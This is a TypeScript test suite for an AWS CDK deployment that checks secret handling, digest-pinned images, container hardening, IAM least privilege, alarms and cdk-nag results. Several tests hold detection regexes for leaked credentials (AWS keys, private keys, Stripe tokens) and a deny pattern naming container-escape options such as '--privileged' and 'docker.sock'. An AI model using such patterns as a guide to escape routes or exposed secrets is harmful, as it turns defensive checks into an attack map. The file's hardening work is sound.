  const scriptLines = () => documentContent().mainSteps[0]!.inputs.runCommand.map((line) => (typeof line === 'string' ? line : JSON.stringify(line)));

  it('embeds no secret: each secret is read by exact name at run time, never by path', () => {
    const script = scriptLines().join('\n');
    expect(script).toContain('aws ssm get-parameter --name "/stackpro/customers/$CUSTOMER_ID/$1" --with-decryption');
    expect(script).not.toContain('get-parameters-by-path');
    for (const secret of Object.values(CUSTOMER_SECRETS)) expect(script).toContain(`"$(secret ${secret.path})"`);
    expect(script).not.toMatch(/(password|secret|key)=[^%"$]|AKIA|BEGIN (RSA|EC|PRIVATE)/i);
  });

  it('runs every container from an image pinned by digest (a floating tag fails this test)', () => {
    const runs = scriptLines().filter((line) => line.startsWith('run '));
    expect(runs.map((line) => line.split(' ')[1])).toEqual(CUSTOMER_CONTAINERS.map((container) => container.name));
    // Each run line takes its image from the version switch, whose every arm sets only pinned images.
    for (const line of runs) expect(line.split(' ')[2]).toMatch(/^"\$IMAGE_[A-Z]+"$/);
    const arms = scriptLines().filter((line) => /^ {2}'\d{4}\.\d{2}\.\d+'\)/.test(line));
    expect(arms.map((line) => /'([^']+)'\)/.exec(line)![1])).toEqual(APP_VERSIONS.map((entry) => entry.version));
    for (const arm of arms) {
      const images = [...arm.matchAll(/IMAGE_[A-Z]+='([^']+)'/g)].map((match) => match[1]);
      expect(images).toHaveLength(CUSTOMER_CONTAINERS.length);
      for (const image of images) expect(image).toMatch(PINNED_IMAGE);
    }
    // No other way to start a container or pull an image sneaks in beside `run`.
    const script = scriptLines().join('\n');
    expect(script.match(/docker (run|pull|create)\b/g)).toEqual(['docker run']);
    expect(script).not.toMatch(/:latest\b/);
    // Each image's repository appears only in its pinned reference (no second, floating mention).
    for (const { image } of CUSTOMER_CONTAINERS) {
      const repository = image.split(/[:@]/)[0]!;
      // One pinned mention per version (the switch's arms), no second, floating mention.
      const mentions = script.split(/[\s"';=]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
      expect(mentions).toHaveLength(APP_VERSIONS.length);
      expect(mentions).toContain(image);
      for (const mention of mentions) expect(mention).toMatch(PINNED_IMAGE);
    }
  });

  it('Roundcube is 1.6.11 or later (CVE-2025-49113) and runs as non-root', () => {
    const mail = CUSTOMER_CONTAINERS.find((container) => container.image.startsWith('roundcube/roundcubemail:'))!;
    const [major, minor, patch] = /:(\d+)\.(\d+)\.(\d+)/.exec(mail.image)!.slice(1).map(Number) as [number, number, number];
    expect(major * 1e6 + minor * 1e3 + patch).toBeGreaterThanOrEqual(1_006_011);
    expect(mail.nonRoot).toBe(true);
    expect(mail.capAdd).toEqual([]);
  });

  it('every container runs with no-new-privileges and all capabilities dropped, adding back only a short list', () => {
    const script = scriptLines().join('\n');
    expect(script).toContain('--security-opt no-new-privileges:true --cap-drop ALL');
    const allowed = new Set(['CHOWN', 'DAC_OVERRIDE', 'FOWNER', 'SETGID', 'SETUID', 'NET_BIND_SERVICE']);
    for (const container of CUSTOMER_CONTAINERS) for (const cap of container.capAdd) expect(allowed.has(cap)).toBe(true);
    expect(script).not.toMatch(/--privileged|--cap-add (ALL|SYS_ADMIN|NET_ADMIN)|docker\.sock|--network host|--pid host/);
    expect(CUSTOMER_CONTAINERS.filter((container) => container.nonRoot).map((container) => container.name).sort()).toEqual(['mail', 'website']);
  });

  it('gives each container only its own secrets, through its own 0600 env file', () => {
    const lines = scriptLines();
    for (const container of CUSTOMER_CONTAINERS) {
      const file = `"$APP_DIR/env/${container.name}.env"`;
      const writes = lines.filter((line) => line.includes(`> ${file}.new`));
      const run = lines.find((line) => line.startsWith(`run ${container.name} `))!;
      const secretVars = (line: string) => [...line.matchAll(/"\$(SECRET_[A-Z_]+)"/g)].map((match) => match[1]).sort();
      if (Object.keys(container.secrets).length + Object.keys(container.env).length === 0) {
        expect(writes).toEqual([]);
        expect(run).not.toContain('--env-file');
        continue;
      }
      expect(writes).toHaveLength(1);
      expect(run).toContain(`--env-file ${file}`);
      const expected = Object.values(container.secrets).map((secret) => `SECRET_${secret.replace(/[A-Z]/g, (letter) => `_${letter}`).toUpperCase()}`);
      expect(secretVars(writes[0]!)).toEqual([...expected].sort());
    }
    const script = lines.join('\n');
    expect(script).toContain('umask 077');
    expect(script).toMatch(/^unset SECRET_/m);
    // Secrets are printf arguments, never part of its format.
    expect(script).not.toMatch(/printf "[^"]*\$SECRET_/);
  });
});

describe('ProvisioningAlarms', () => {
  it('alarms on the metrics mark-provisioning-failed emits, as Powertools emits them', () => {
    for (const metricName of [METRICS.provisioningFailed, METRICS.rollbackIncomplete, METRICS.capacityWaitStarted]) {
      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
        Namespace: METRICS.namespace,
        MetricName: metricName,
        // Powertools' default dimension: service = POWERTOOLS_SERVICE_NAME / serviceName.
        Dimensions: [{ Name: 'service', Value: 'stackpro' }],
        Statistic: 'Sum',
        Period: 300,
        Threshold: 1,
        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
        EvaluationPeriods: 1,
        TreatMissingData: 'notBreaching',
        AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
      });
    }
  });

  it.each(['ExecutionsFailed', 'ExecutionsTimedOut'])('alarms on the state machine %s', (metricName) => {
    template.hasResourceProperties('AWS::CloudWatch::Alarm', {
      Namespace: 'AWS/States',
      MetricName: metricName,
      Dimensions: [{ Name: 'StateMachineArn', Value: { Ref: logicalId(stack.provisioning.stateMachine) } }],
      Statistic: 'Sum',
      Threshold: 1,
      ComparisonOperator: 'GreaterThanOrEqualToThreshold',
      AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
    });
  });

  it('notifies a topic that refuses unencrypted publishing, and outputs its ARN', () => {
    // 5 for provisioning (the capacity wait included), 3 per lifecycle workflow, 1 per scheduled job + the billing sweeps' failed items, 2 for the Stripe webhook, 1 on the stopped-execution dead-letter queue.
    template.resourceCountIs(
      'AWS::CloudWatch::Alarm',
      5 + 3 * LIFECYCLE_WORKFLOWS.length + SCHEDULED_JOBS.length + 1 + 2 + 1 + Object.keys(stack.operationsMonitoring.alarms).length,
    );
    template.hasResourceProperties('AWS::SNS::TopicPolicy', {
      PolicyDocument: {
        Statement: Match.arrayWith([
          Match.objectLike({ Effect: 'Deny', Condition: { Bool: { 'aws:SecureTransport': 'false' } } }),
        ]),
      },
    });
    template.hasOutput('AlarmTopicArn', { Value: { Ref: logicalId(stack.alarmTopic.topic) } });
    // Born inside ProvisioningAlarms: a new logical id would replace the topic (new ARN, subscriptions lost).
    expect(logicalId(stack.alarmTopic.topic)).toBe('ProvisioningAlarmsTopic4828439C');
    // cdk.json sets no stackpro:alarmEmail, so nothing is subscribed.
    template.resourceCountIs('AWS::SNS::Subscription', 0);
  });
});

describe('LifecycleAlarms', () => {
  it.each([METRICS.suspendFailed, METRICS.resumeFailed, METRICS.deprovisionFailed])(
    'alarms on %s as record-lifecycle-failure emits it, on the same topic',
    (metricName) => {
      template.hasResourceProperties('AWS::CloudWatch::Alarm', {
        Namespace: METRICS.namespace,
        MetricName: metricName,
        Dimensions: [{ Name: 'service', Value: 'stackpro' }],
        Statistic: 'Sum',
        Period: 300,
        Threshold: 1,
        ComparisonOperator: 'GreaterThanOrEqualToThreshold',
        TreatMissingData: 'notBreaching',
        AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
      });
    },
  );

  it.each(
    LIFECYCLE_WORKFLOWS.flatMap(({ workflow }) => ['ExecutionsFailed', 'ExecutionsTimedOut'].map((metricName) => [workflow.id, metricName] as const)),
  )('alarms on the %s state machine %s', (workflowId, metricName) => {
    template.hasResourceProperties('AWS::CloudWatch::Alarm', {
      Namespace: 'AWS/States',
      MetricName: metricName,
      Dimensions: [{ Name: 'StateMachineArn', Value: { Ref: logicalId(stack.lifecycle.stateMachines[workflowId]) } }],
      Statistic: 'Sum',
      Threshold: 1,
      ComparisonOperator: 'GreaterThanOrEqualToThreshold',
      AlarmActions: [{ Ref: logicalId(stack.alarmTopic.topic) }],
    });
  });
});

describe('StripeKeys', () => {
  function secret(): Resource {
    return resourceOf(stack.stripeKeys.secret);
  }

  it('is created with placeholders only, in the {secretKey, webhookSecret} shape the handlers read', () => {
    const value = JSON.parse(secret().Properties.SecretString as string) as Record<string, string>;
    expect(Object.keys(value).sort()).toEqual(['secretKey', 'webhookSecret']);
    for (const placeholder of Object.values(value)) expect(placeholder).toMatch(/^REPLACE_ME/);
    expect(text(template.toJSON())).not.toMatch(/sk_(live|test)_[A-Za-z0-9]|whsec_[A-Za-z0-9]|rk_(live|test)_[A-Za-z0-9]/);
    expect(secret().Properties).not.toHaveProperty('GenerateSecretString');
  });

  it('acknowledges no rotation (SMG4) with its reason beside the secret', () => {
    expect(acknowledgementsOf(stack.stripeKeys.secret)['AwsSolutions-SMG4']).toMatch(/rolled in the Stripe dashboard/);
  });

  it('outputs its ARN for put-secret-value', () => {
    template.hasOutput('StripeKeysSecretArn', { Value: { Ref: logicalId(stack.stripeKeys.secret) } });
  });

  it('can be read by exactly the routes and steps that declare stripe access', () => {
    // Its Ref here; in the nested stack, the parameter named after it.
    const secretRefs = [text({ Ref: logicalId(stack.stripeKeys.secret) }), text({ Ref: `referenceto${importedName(stack.stripeKeys.secret)}Ref` })];
    const readers = grantsOf('secretsmanager:GetSecretValue')
      .filter(({ statement }) => secretRefs.some((ref) => text(statement.Resource).includes(ref)))
      .map(({ role }) => role);
    const declared = [
      ...ROUTES.filter((route) => route.access.includes('stripe')).map((route) => logicalId(routeFunction(route.id).role!)),
      ...DISTINCT_STEPS.filter((step) => step.access.includes('stripe')).map((step) => {
        const fn = CHECKED_WORKFLOWS.flatMap((workflow) => Object.values(stepFunctionsOf(workflow))).find((candidate) => candidate.node.id === step.id)!;
        return logicalId(fn.role!);
      }),
      // The lapse sweep cancels lapsed subscriptions.
      logicalId(stack.scheduledJobs.functions.SweepLapsedAccounts.role!),
      // The clean-up of a stopped provisioning cancels its subscription.
      recoveryRole(),
    ];
    expect(readers.sort()).toEqual(declared.sort());
    expect(declared).toHaveLength(10);
  });
});

describe('Billing routes', () => {
  function ownActions(routeId: string): string[] {
    return [...new Set(actionsOf(routeFunction(routeId)))].filter((action) => !/^(logs|xray):/.test(action)).sort();
  }
  const stripeRead = ['secretsmanager:DescribeSecret', 'secretsmanager:GetSecretValue'];
  const tableRead = ['dynamodb:BatchGetItem', 'dynamodb:ConditionCheckItem', 'dynamodb:DescribeTable', 'dynamodb:GetItem', 'dynamodb:Query'];
  const tableWrite = ['dynamodb:BatchWriteItem', 'dynamodb:DeleteItem', 'dynamodb:PutItem', 'dynamodb:UpdateItem'];

  it.each(['CreateCheckoutSession', 'CreatePortalSession'])(
    '%s can read the customer and the Stripe keys, but not write the table or start executions',
    (routeId) => {
      expect(ownActions(routeId)).toEqual([...stripeRead, ...tableRead].sort());
      const environment = environmentOf(routeFunction(routeId));
      expect(environment.STRIPE_SECRET_ID).toEqual({ Ref: logicalId(stack.stripeKeys.secret) });
      expect(Object.keys(environment).sort()).toEqual(
        ['CUSTOMER_DOMAIN', 'FRONTEND_ORIGIN', 'NODE_OPTIONS', 'POWERTOOLS_LOG_LEVEL', 'POWERTOOLS_SERVICE_NAME', 'STRIPE_SECRET_ID', 'TABLE_NAME'],
      );
      expect(routeFunction(routeId).node.path).toBe(`StackPro/AccountApi/${routeId}`);
    },
  );

  it('ReceiveStripeWebhook: table, Stripe keys, start the lifecycle workflows and the resize, send email; nothing else', () => {
    expect(ownActions('ReceiveStripeWebhook')).toEqual(
      [...stripeRead, ...tableRead, ...tableWrite, 'states:StartExecution', 'ses:SendEmail'].sort(),
    );
    const statements = statementsOfRole(logicalId(routeFunction('ReceiveStripeWebhook').role!));
    const starts = statements.filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
    const started = starts.flatMap((statement) => [statement.Resource].flat());
    expect(started.filter((resource) => !isResizeArn(resource)).map((resource) => text(resource)).sort()).toEqual(
      LIFECYCLE_WORKFLOWS.map(({ workflow }) => text({ Ref: logicalId(stack.lifecycle.stateMachines[workflow.id]) })).sort(),
    );
    expect(started.filter(isResizeArn)).toHaveLength(1);
    const secrets = statements.filter((statement) => [statement.Action].flat().some((action) => action.startsWith('secretsmanager:')));
    expect(secrets.map((statement) => statement.Resource)).toEqual([{ Ref: logicalId(stack.stripeKeys.secret) }]);
    // Not the provisioning workflow, not the JWT signing key.
    expect(text(statements)).not.toContain(logicalId(stack.provisioning.stateMachine));
    expect(text(statements)).not.toContain(logicalId(stack.signingKey.secret));
  });

  it('ReceiveStripeWebhook gets the three lifecycle ARNs, the retention, the sender and the Stripe secret id', () => {
    const environment = environmentOf(routeFunction('ReceiveStripeWebhook'));
    expect(environment).toMatchObject({
      SUSPEND_STATE_MACHINE_ARN: { Ref: logicalId(stack.lifecycle.stateMachines.SuspendCustomer) },
      RESUME_STATE_MACHINE_ARN: { Ref: logicalId(stack.lifecycle.stateMachines.ResumeCustomer) },
      DEPROVISION_STATE_MACHINE_ARN: { Ref: logicalId(stack.lifecycle.stateMachines.DeprovisionCustomer) },
      BILLING_RETENTION_DAYS: String(cdkJson.context['stackpro:billingRetentionDays']),
      SENDER_ADDRESS: cdkJson.context['stackpro:senderAddress'],
      STRIPE_SECRET_ID: { Ref: logicalId(stack.stripeKeys.secret) },
      FRONTEND_ORIGIN: origin,
    });
    expect(environment).not.toHaveProperty('SIGNING_KEY_SECRET_ID');
    expect(environment).not.toHaveProperty('PROVISIONING_STATE_MACHINE_ARN');
  });

  it('ReceiveStripeWebhook is public (no authorizer, no Authorization header required) and sees the raw body', () => {
    const methods = Object.values(
      template.findResources('AWS::ApiGateway::Method', { Properties: { OperationName: 'ReceiveStripeWebhook' } }),
    ) as Resource[];
    expect(methods).toHaveLength(1);
    const method = methods[0]!.Properties;
    expect(method).toMatchObject({ HttpMethod: 'POST', AuthorizationType: 'NONE', Integration: { Type: 'AWS_PROXY' } });
    expect(method).not.toHaveProperty('AuthorizerId');
    expect(method).not.toHaveProperty('RequestParameters');
    expect(method).not.toHaveProperty('RequestModels');
    // Binary media types would make API Gateway base64 the JSON body.
    expect(resourceOf(stack.accountApi.api).Properties).not.toHaveProperty('BinaryMediaTypes');
    const post = stack.accountApi.api.root.resourceForPath('/stripe/webhooks').node.findChild('POST');
    expect(acknowledgementsOf(post)['AwsSolutions-APIG4']).toMatch(/verifies the Stripe-Signature HMAC/);
  });
});

describe('IAM least privilege', () => {
  it('GetHealth touches no table, secret or state machine', () => {
    const actions = actionsOf(routeFunction('GetHealth'));
    expect(actions.filter((action) => /^(dynamodb|secretsmanager|states):/.test(action))).toEqual([]);
  });

  it('GetOpenApi may only trace and log: no table, secret, workflow or email, nor their names in its environment', () => {
    const actions = actionsOf(routeFunction('GetOpenApi'));
    expect(actions.filter((action) => !/^(xray|logs):/.test(action))).toEqual([]);
    expect(Object.keys(environmentOf(routeFunction('GetOpenApi'))).filter((name) => /TABLE|SECRET|STATE_MACHINE|SENDER/.test(name))).toEqual([]);
  });

  it('GetCustomerStatus can read the table but not write it', () => {
    const actions = actionsOf(routeFunction('GetCustomerStatus'));
    expect(actions).toEqual(expect.arrayContaining(['dynamodb:GetItem', 'dynamodb:Query']));
    for (const write of ['dynamodb:PutItem', 'dynamodb:UpdateItem', 'dynamodb:DeleteItem', 'dynamodb:BatchWriteItem']) {
      expect(actions).not.toContain(write);
    }
  });

  it('no function may Scan the table (every access pattern is a GetItem or a Query)', () => {
    const functions = [...ROUTES.map((route) => routeFunction(route.id)), ...CHECKED_WORKFLOWS.flatMap((workflow) => Object.values(stepFunctionsOf(workflow)))];
    for (const fn of functions) expect(actionsOf(fn)).not.toContain('dynamodb:Scan');
  });

  it('admin routes need an IAM signature, granted only by the AdminAccess managed policy', () => {
    const admin = ROUTES.filter((route) => route.auth === 'iam');
    expect(admin.map((route) => route.id)).toEqual(['RetryProvisioning', 'ListCustomers', 'GetCustomer', 'AdminSuspendCustomer', 'AdminResumeCustomer', 'StartCustomerBackup', 'AdminChangePlan', 'AdminRestoreCustomer', 'StartFleetUpdate', 'GetFleetUpdate']);
    const policy = resourceOf(stack.accountApi.adminPolicy).Properties as { PolicyDocument: { Statement: Statement[] } };
    expect(policy.PolicyDocument.Statement).toHaveLength(1);
    expect(policy.PolicyDocument.Statement[0].Action).toBe('execute-api:Invoke');
    const resources = JSON.stringify(policy.PolicyDocument.Statement[0].Resource);
    for (const path of ['/POST/admin/customers/*/provisioning/retry', '/GET/admin/customers"', '/GET/admin/customers/*"', '/POST/admin/customers/*/suspend', '/POST/admin/customers/*/resume', '/POST/admin/customers/*/plan']) {
      expect(resources).toContain(path);
    }
    template.hasOutput('AdminPolicyArn', {});
  });

  it('only email verification and the operators\' retry route can start provisioning executions (signup cannot)', () => {
    const provisioning = text({ Ref: logicalId(stack.provisioning.stateMachine) });
    const starters = grantsOf('states:StartExecution')
      .filter(({ statement }) => text(statement.Resource).includes(provisioning))
      .map(({ role }) => role);
    expect(starters.sort()).toEqual([logicalId(routeFunction('VerifyEmail').role!), logicalId(routeFunction('RetryProvisioning').role!)].sort());
  });

  it('only routes declaring lifecycle:start can start the lifecycle workflows (the Stripe webhook)', () => {
    for (const { workflow } of LIFECYCLE_WORKFLOWS) {
      const machine = text({ Ref: logicalId(stack.lifecycle.stateMachines[workflow.id]) });
      const starters = grantsOf('states:StartExecution')
        .filter(({ statement }) => text(statement.Resource).includes(machine))
        .map(({ role }) => role);
      // Plus the lapse sweep, for DeprovisionCustomer only; an operator's suspend or resume starts only its own workflow;
      // and the stopped-execution recovery, which runs a stopped lifecycle workflow again.
      const sweep = [...(workflow.id === 'DeprovisionCustomer' ? [logicalId(stack.scheduledJobs.functions.SweepLapsedAccounts.role!)] : []), recoveryRole()];
      const operatorRoutes: Record<string, string[]> = { SuspendCustomer: ['AdminSuspendCustomer'], ResumeCustomer: ['AdminResumeCustomer'] };
      const operator = (operatorRoutes[workflow.id] ?? []).map((id) => logicalId(routeFunction(id).role!));
      expect(starters.sort()).toEqual([...ROUTES.filter((route) => route.access.includes('lifecycle:start')).map((route) => logicalId(routeFunction(route.id).role!)), ...sweep, ...operator].sort());
      expect(starters.sort()).toEqual([logicalId(routeFunction('ReceiveStripeWebhook').role!), ...sweep, ...operator].sort());
    }
  });

  it('the authorizer cannot read the signing key secret (or anything but the public keys)', () => {
    const statements = statementsOfRole(logicalId(stack.accountApi.authorizerFunction.role!)).filter(
      (statement) => ![statement.Action].flat().every((action) => /^(logs|xray):/.test(action)),
    );
    expect(statements.map((statement) => [statement.Action, statement.Resource])).toEqual([
      ['secretsmanager:GetSecretValue', { Ref: logicalId(stack.signingKey.publicKeys) }],
    ]);
  });

  it('grants signing-key reads to exactly the routes that declare them', () => {
    const signingKey = text({ Ref: logicalId(stack.signingKey.secret) });
    // The messaging nested stack sees the secret through its parameter (the widget's visitor-token signer).
    const nestedSigningKey = `referenceto${importedName(stack.signingKey.secret)}Ref`;
    const readers = new Set([
      ...grantsOf('secretsmanager:GetSecretValue')
        .filter(({ statement }) => text(statement.Resource).includes(signingKey))
        .map(({ role }) => role),
      ...attachedPolicies(messagingNested).flatMap((policy) =>
        policy.statements
          .filter((statement) => statement.Effect === 'Allow' && [statement.Action].flat().includes('secretsmanager:GetSecretValue') && text(statement.Resource).includes(nestedSigningKey))
          .map(() => policy.role),
      ),
    ]);
    for (const route of ROUTES) {
      expect(`${route.id}: ${readers.has(logicalId(routeFunction(route.id).role!))}`).toBe(`${route.id}: ${route.access.includes('signing-key:read')}`);
    }
    // Plus only the generator and the rotation function, which write it.
    const generator = stack.signingKey.node.findChild('CreateSigningKey') as unknown as { role: IConstruct };
    expect(readers.size).toBe(ROUTES.filter((route) => route.access.includes('signing-key:read')).length + 2);
    expect(readers.has(logicalId(generator.role))).toBe(true);
    expect(readers.has(logicalId(stack.signingKey.rotationFunction.role!))).toBe(true);
  });

  it('uses Resource "*" only for actions without resource-level permissions (the acknowledged IAM5 findings)', () => {
    const wildcardActions = attachedPolicies(template)
      .flatMap((policy) => policy.statements)
      .filter((statement) => statement.Resource === '*')
      .flatMap((statement) => [statement.Action].flat());
    const noResourceLevel =
      /^(xray:|logs:[A-Za-z]+Log(Delivery|Deliveries|Groups)$|logs:(DescribeResourcePolicies|PutResourcePolicy)$|ec2:Describe(Instances|Snapshots|Volumes|VolumesModifications|Tags)$|tag:GetResources$|backup:ListRecoveryPointsByResource$|ssm:(DescribeInstanceInformation|GetCommandInvocation)$|cloudwatch:GetMetricData$)/;
    // The SSM agent's channel on customer servers (the Run Command subset of AmazonSSMManagedInstanceCore).
    const agentChannel = /^(ec2messages:|ssmmessages:|ssm:(UpdateInstanceInformation|ListInstanceAssociations)$)/;
    expect(wildcardActions.filter((action) => !noResourceLevel.test(action) && !agentChannel.test(action) && action !== 'cloudwatch:PutMetricData')).toEqual([]);
    const instanceRoleWildcards = statementsOfRole(logicalId(stack.customerInstances.instanceRole))
      .filter((statement) => statement.Resource === '*')
      .flatMap((statement) => [statement.Action].flat());
    // The CloudWatch agent's PutMetricData, held to our namespace by a condition.
    expect(instanceRoleWildcards.filter((action) => !agentChannel.test(action))).toEqual(['cloudwatch:PutMetricData']);
    const putMetricData = statementsOfRole(logicalId(stack.customerInstances.instanceRole)).find((statement) => statement.Action === 'cloudwatch:PutMetricData');
    expect(putMetricData?.Condition).toEqual({ StringEquals: { 'cloudwatch:namespace': 'StackPro/CustomerInstances' } });
  });

  it('attaches no AWS managed policy except the account-level API Gateway logging role', () => {
    const roles = template.findResources('AWS::IAM::Role', { Properties: { ManagedPolicyArns: Match.anyValue() } });
    expect(Object.keys(roles)).toEqual([expect.stringMatching(/^AccountApiRestApiCloudWatchRole/)]);
  });
});

describe('OperationsMonitoring (alarms on the operators\' topic, and the dashboard)', () => {
  type AlarmProps = {
    AlarmActions?: unknown[];
    MetricName?: string;
    Namespace?: string;
    Dimensions?: { Name: string; Value: unknown }[];
    Metrics?: { Id: string; Expression?: string; MetricStat?: { Metric: { MetricName: string; Namespace: string; Dimensions?: { Name: string; Value: unknown }[] } } }[];
    Threshold: number;
    AlarmDescription: string;
  };
  const alarms = () => Object.values(template.findResources('AWS::CloudWatch::Alarm')).map((resource) => (resource as { Properties: AlarmProps }).Properties);
  const topicRef = () => ({ Ref: logicalId(stack.alarmTopic.topic) });
  const alarmOf = (id: string) => resourceOf(stack.operationsMonitoring.alarms[id]).Properties as AlarmProps;

  it('every alarm in the stack notifies the one operators\' topic', () => {
    expect(alarms().length).toBeGreaterThan(20);
    for (const alarm of alarms()) expect(alarm.AlarmActions).toEqual([topicRef()]);
  });

  it('every state machine has an alarm on failed and one on timed-out executions', () => {
    const machines = Object.keys(template.findResources('AWS::StepFunctions::StateMachine'));
    const watched = (metricName: string) =>
      new Set(alarms().filter((alarm) => alarm.MetricName === metricName).flatMap((alarm) => alarm.Dimensions!.map((d) => (d.Value as { Ref: string }).Ref)));
    expect(machines.length).toBeGreaterThanOrEqual(MAIN_WORKFLOWS.length);
    for (const machine of machines) {
      expect(watched('ExecutionsFailed').has(machine)).toBe(true);
      expect(watched('ExecutionsTimedOut').has(machine)).toBe(true);
    }
  });

  it('alarms on Lambda errors and throttles across all functions, without one alarm per function', () => {
    expect(alarmOf('LambdaErrorsAlarm')).toMatchObject({ Namespace: 'AWS/Lambda', MetricName: 'Errors', Threshold: 5 });
    expect(alarmOf('LambdaThrottlesAlarm')).toMatchObject({ Namespace: 'AWS/Lambda', MetricName: 'Throttles', Threshold: 1 });
    expect(alarmOf('LambdaErrorsAlarm').Dimensions).toBeUndefined();
    const lambdaAlarms = alarms().filter((alarm) => alarm.Namespace === 'AWS/Lambda');
    // Beside the two aggregates, only each scheduled job's own failure alarm names a function.
    expect(lambdaAlarms.filter((alarm) => alarm.Dimensions === undefined)).toHaveLength(2);
    expect(lambdaAlarms.filter((alarm) => alarm.Dimensions !== undefined)).toHaveLength(SCHEDULED_JOBS.length);
  });

  it("alarms on the API's 5xx share and p99 latency, and on the Stripe webhook's 5xx and repeated 4xx", () => {
    const rate = alarmOf('Api5xxRateAlarm');
    expect(rate.Metrics!.find((metric) => metric.Expression)?.Expression).toBe('IF(requests >= 10, 100 * errors / requests, 0)');
    expect(rate.Metrics!.map((metric) => metric.MetricStat?.Metric.MetricName).filter(Boolean).sort()).toEqual(['5XXError', 'Count']);
    expect(rate.Threshold).toBe(1);
    expect(alarmOf('ApiP99LatencyAlarm')).toMatchObject({ MetricName: 'Latency', ExtendedStatistic: 'p99', Threshold: 3000 });
    const webhook = alarmOf('StripeWebhookFailedAlarm');
    expect(webhook).toMatchObject({ Namespace: 'AWS/ApiGateway', MetricName: '5XXError', Threshold: 1 });
    expect(webhook.Dimensions).toEqual(expect.arrayContaining([{ Name: 'Method', Value: 'POST' }, { Name: 'Resource', Value: '/stripe/webhooks' }]));
    expect(alarmOf('StripeWebhookRejectedAlarm')).toMatchObject({ MetricName: '4XXError', Threshold: 3 });
  });

  it('alarms on any customer server failing a status check, and relies on EC2 simplified automatic recovery for system checks', () => {
    const statusCheck = alarmOf('InstanceStatusCheckFailedAlarm');
    expect(statusCheck.Metrics![0].Expression).toBe('SELECT MAX(StatusCheckFailed) FROM SCHEMA("AWS/EC2", InstanceId)');
    expect(resourceOf(stack.customerInstances.launchTemplate).Properties).toMatchObject({ LaunchTemplateData: { MaintenanceOptions: { AutoRecovery: 'default' } } });
    template.hasResourceProperties('AWS::Events::Rule', {
      EventPattern: {
        source: ['aws.health'],
        detail: { service: ['EC2'], eventTypeCode: ['AWS_EC2_SIMPLIFIED_AUTO_RECOVERY_SUCCESS', 'AWS_EC2_SIMPLIFIED_AUTO_RECOVERY_FAILURE'] },
      },
      Targets: [Match.objectLike({ Arn: topicRef() })],
    });
  });

  it('draws one dashboard: signups, verifications, provisionings in flight, failures, p99 latencies, active customers by plan, and every alarm', () => {
    const dashboards = Object.values(template.findResources('AWS::CloudWatch::Dashboard'));
    expect(dashboards).toHaveLength(1);
    const body = text(stack.resolve((dashboards[0] as Resource).Properties.DashboardBody));
    for (const title of ['Signups and verifications', 'Provisionings in flight', 'Failures', 'p99 latencies', 'Active customers by plan', 'Alarms']) {
      expect(body).toContain(title);
    }
    for (const metric of [METRICS.customerSignedUp, METRICS.emailVerified, METRICS.provisioningsInFlight, METRICS.provisioningFailed]) expect(body).toContain(metric);
    for (const plan of ['starter', 'business', 'enterprise']) expect(body).toContain(`\\"plan\\",\\"${plan}\\"`);
    expect(body).toContain('p99');
    expect(body).toMatch(/\\"type\\":\\"alarm\\"/);
    // The alarm status widget lists every alarm of the stack, whichever construct made it.
    for (const alarmId of Object.keys(template.findResources('AWS::CloudWatch::Alarm'))) expect(body).toContain(`"${alarmId}","Arn"`);
  });

  it("watchWorkflow: a new workflow's failed and timed-out executions alarm on the topic, and it is drawn among the failures", () => {
    // A small stack of its own (no Lambda): what another part does to watch a workflow it adds.
    const small = new Stack(new App(), 'Monitored');
    const topic = new sns.Topic(small, 'Topic');
    const api = new apigw.RestApi(small, 'Api');
    api.root.addMethod('GET', new apigw.MockIntegration());
    const machine = (id: string) => new sfn.StateMachine(small, id, { definitionBody: sfn.DefinitionBody.fromChainable(new sfn.Pass(small, `${id}Pass`)) });
    const monitoring = new OperationsMonitoring(small, 'OperationsMonitoring', {
      topic,
      api,
      webhookRoute: { method: 'POST', path: '/stripe/webhooks' },
      stateMachines: { ProvisionCustomer: machine('Provision') },
    });
    const resize = machine('Resize');

    monitoring.watchWorkflow('ResizeCustomer', resize);
    const smallTemplate = Template.fromStack(small);

    for (const metricName of ['ExecutionsFailed', 'ExecutionsTimedOut']) {
      smallTemplate.hasResourceProperties('AWS::CloudWatch::Alarm', {
        MetricName: metricName,
        Dimensions: [{ Name: 'StateMachineArn', Value: { Ref: small.getLogicalId(resize.node.defaultChild as sfn.CfnStateMachine) } }],
        AlarmActions: [{ Ref: small.getLogicalId(topic.node.defaultChild as sns.CfnTopic) }],
      });
    }
    const dashboard = Object.values(smallTemplate.findResources('AWS::CloudWatch::Dashboard'))[0] as Resource;
    expect(text(small.resolve(dashboard.Properties.DashboardBody))).toContain('ResizeCustomer executions failed');
  });

  it('the usage job reads metrics and describes servers read-only, writes only profiles\' usage items, and counts running provisionings', () => {
    const role = logicalId(stack.scheduledJobs.functions.CollectUsage.role!);
    const statements = statementsOfRole(role);
    const actions = statements.flatMap((statement) => [statement.Action].flat());
    expect(actions).toEqual(expect.arrayContaining(['cloudwatch:GetMetricData', 'ec2:DescribeInstances', 'ec2:DescribeSnapshots', 'states:ListExecutions']));
    expect(actions.filter((action) => action.startsWith('dynamodb:')).sort()).toEqual(['dynamodb:BatchGetItem', 'dynamodb:PutItem']);
    expect(actions.filter((action) => /^(ec2|cloudwatch):(?!Describe|GetMetricData)/.test(action))).toEqual([]);
    const listExecutions = statements.find((statement) => statement.Action === 'states:ListExecutions');
    expect(listExecutions?.Resource).toEqual({ Ref: logicalId(stack.provisioning.stateMachine) });
  });
});

describe('cdk-nag AwsSolutions', () => {
  it('has no unacknowledged finding (errors or warnings)', () => {
    const report = nagChecks.validateScope(app);
    expect(report.violations.map((violation) => `${violation.ruleName}: ${violation.violatingResources.map((r) => r.constructPath).join(', ')}`)).toEqual([]);
    expect(report.success).toBe(true);
  });

  it('gives every acknowledgement a reason that says why', () => {
    const acknowledgements = stack.node
      .findAll()
      .flatMap((construct) => construct.node.metadata.filter((entry) => entry.type === Validations.ACKNOWLEDGED_RULES_METADATA_KEY))
      .flatMap((entry) => Object.entries(entry.data as Record<string, string>));
    expect(acknowledgements.length).toBeGreaterThan(0);
    for (const [id, reason] of acknowledgements) expect(`${id}: ${reason.length >= 40 ? 'explained' : reason}`).toBe(`${id}: explained`);
  });

